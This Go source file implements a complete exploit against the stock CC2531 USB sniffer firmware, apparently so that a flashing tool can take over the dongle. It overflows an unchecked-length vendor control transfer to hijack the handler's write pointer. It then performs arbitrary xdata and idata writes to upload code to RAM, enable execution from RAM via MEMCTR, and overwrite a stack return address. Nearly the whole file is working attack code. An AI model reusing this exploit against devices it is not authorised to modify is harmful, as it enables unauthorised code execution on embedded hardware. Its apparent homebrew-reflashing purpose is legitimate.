// Package exploit drives the unchecked-length control transfer bug in the
// stock CC2531 sniffer firmware.
//
// The firmware expects short packet filtering parameters on a control
// transfer with bmRequestType 0x40 and bRequest 0xD2, but never checks the
// transfer length. An oversized transfer runs past the parameter buffer and
// into the request handler's own state variables, including its write
// pointer. By overwriting the pointer we make the firmware's next processing
// step write our data to an address of our choosing, in either xdata or
// idata. Three such writes give code execution: upload code to unused RAM,
// set the XMAP bit in MEMCTR so the CPU may fetch code from RAM, and
// overwrite a return address on the stack.
package exploit

import (
	"fmt"

	"github.com/golang/glog"

	"github.com/ccusbwpan/ccflash/pkg/layout"
)

const (
	// The vulnerable vendor request.
	requestType uint8 = 0x40
	request     uint8 = 0xd2

	// MEMCTR special function register, mapped into xdata at 0x7000+0xc7.
	memCtr uint16 = 0x70c7
	// XMAP bit: allow code fetches from RAM.
	memCtrEnableXmap byte = 1 << 3

	// The firmware advances its write pointer by 32 before first use, and
	// counts the same 32 bytes against the remaining length.
	wptrAdvance = 32

	// XmapBase is where xdata is aliased into code space once XMAP is on:
	// code address 0x8000 is xdata address 0.
	XmapBase uint16 = 0x8000

	// Linux caps vendor control transfers at one page.
	maxTransfer = 4096
)

// Writer delivers one raw control transfer payload to the device. The
// payload always travels over the primary (xdata) transfer path; where the
// firmware then writes is encoded inside the payload itself.
type Writer interface {
	RawWrite(payload []byte) error
}

// Controller is the subset of a USB device the exploit needs.
type Controller interface {
	Control(rType, request uint8, val, idx uint16, data []byte) (int, error)
}

// ControlWriter adapts a USB device to Writer using the fixed vendor
// request the vulnerable handler listens on.
type ControlWriter struct {
	Usb Controller
}

func (c *ControlWriter) RawWrite(payload []byte) error {
	_, err := c.Usb.Control(requestType, request, 0, 0, payload)
	if err != nil {
		return fmt.Errorf("control: %w", err)
	}
	return nil
}

// AddressSpace selects which 8051 address space the firmware writes to.
type AddressSpace uint8

const (
	// XData is external data memory, where RAM and most SFRs live.
	XData AddressSpace = 0
	// IData is internal data memory, which holds the stack.
	IData AddressSpace = 1
)

func (a AddressSpace) String() string {
	switch a {
	case XData:
		return "xdata"
	case IData:
		return "idata"
	}
	return "UNKNOWN"
}

// stage tracks progress through the exploit. Transitions are one way; a
// failed write leaves the device in an unknown state and the run must be
// abandoned.
type stage int

const (
	stageIdle stage = iota
	stageCodeLoaded
	stageExecutionEnabled
	stageRedirected
)

// Sequencer performs the three exploit writes, in their only safe order:
// Upload, then EnableXmap, then HijackReturn.
type Sequencer struct {
	layout *layout.Layout
	w      Writer
	stage  stage
}

func New(l *layout.Layout, w Writer) *Sequencer {
	return &Sequencer{layout: l, w: w}
}

// WriteBytes makes the firmware write data to addr in the given address
// space, by overflowing the transfer buffer into the request handler state.
// The write on the device side happens during its next processing step and
// cannot be verified from the host.
func (s *Sequencer) WriteBytes(data []byte, addr uint16, space AddressSpace) error {
	if len(data)+wptrAdvance > 0xffff {
		return fmt.Errorf("%d bytes do not fit a 16 bit length counter", len(data))
	}
	glog.Infof("Writing %d bytes to %s %#06x", len(data), space, addr)
	payload, err := s.layout.Encode(layout.Values{
		// Both state machines must believe a request is in flight.
		"usb_state": 2,
		"req_state": 2,
		// Compensate for the firmware's pre-advance of pointer and
		// remaining length.
		"wptr":      int(addr) - wptrAdvance,
		"addrspace": int(space),
		"wlen":      len(data) + wptrAdvance,
		"data":      data,
	})
	if err != nil {
		return fmt.Errorf("constructing payload: %w", err)
	}
	if len(payload) > maxTransfer {
		return fmt.Errorf("payload is %d bytes, exceeds %d byte control transfer limit", len(payload), maxTransfer)
	}
	return s.w.RawWrite(payload)
}

// Upload places code at the start of the firmware's unused RAM region. Must
// run before EnableXmap and HijackReturn.
func (s *Sequencer) Upload(code []byte) error {
	if s.stage != stageIdle {
		return fmt.Errorf("code already uploaded")
	}
	free := s.layout.FreeSpace
	if len(code) > free.Len() {
		return fmt.Errorf("code is %d bytes, only %d bytes of RAM are unused", len(code), free.Len())
	}
	glog.Infof("Uploading %d bytes of code", len(code))
	if err := s.WriteBytes(code, free.Start, XData); err != nil {
		return err
	}
	s.stage = stageCodeLoaded
	return nil
}

// EnableXmap sets the XMAP bit in MEMCTR, allowing the CPU to execute from
// RAM. Only meaningful once code is in place.
func (s *Sequencer) EnableXmap() error {
	if s.stage != stageCodeLoaded {
		return fmt.Errorf("code must be uploaded before enabling execution from RAM")
	}
	glog.Infof("Enabling execution from RAM")
	if err := s.WriteBytes([]byte{memCtrEnableXmap}, memCtr, XData); err != nil {
		return err
	}
	s.stage = stageExecutionEnabled
	return nil
}

// HijackReturn overwrites a saved return address on the stack, diverting the
// firmware to target on an upcoming return. This is the point of no return:
// every prior write must already be durable on the device.
func (s *Sequencer) HijackReturn(target uint16) error {
	if s.stage != stageExecutionEnabled {
		return fmt.Errorf("execution from RAM must be enabled before hijacking the return address")
	}
	glog.Infof("Overwriting return address on stack to %#06x", target)
	if err := s.WriteBytes([]byte{byte(target), byte(target >> 8)}, s.layout.StackRet, IData); err != nil {
		return err
	}
	s.stage = stageRedirected
	return nil
}

// Run performs the full sequence for the given code and returns the code
// space address it will execute from. Success of the final redirect is not
// observable on the wire; callers infer it from the device re-enumerating.
func (s *Sequencer) Run(code []byte) (uint16, error) {
	entry := s.layout.FreeSpace.Start + XmapBase
	if err := s.Upload(code); err != nil {
		return 0, fmt.Errorf("uploading code: %w", err)
	}
	if err := s.EnableXmap(); err != nil {
		return 0, fmt.Errorf("enabling execution from RAM: %w", err)
	}
	if err := s.HijackReturn(entry); err != nil {
		return 0, fmt.Errorf("hijacking return address: %w", err)
	}
	return entry, nil
}
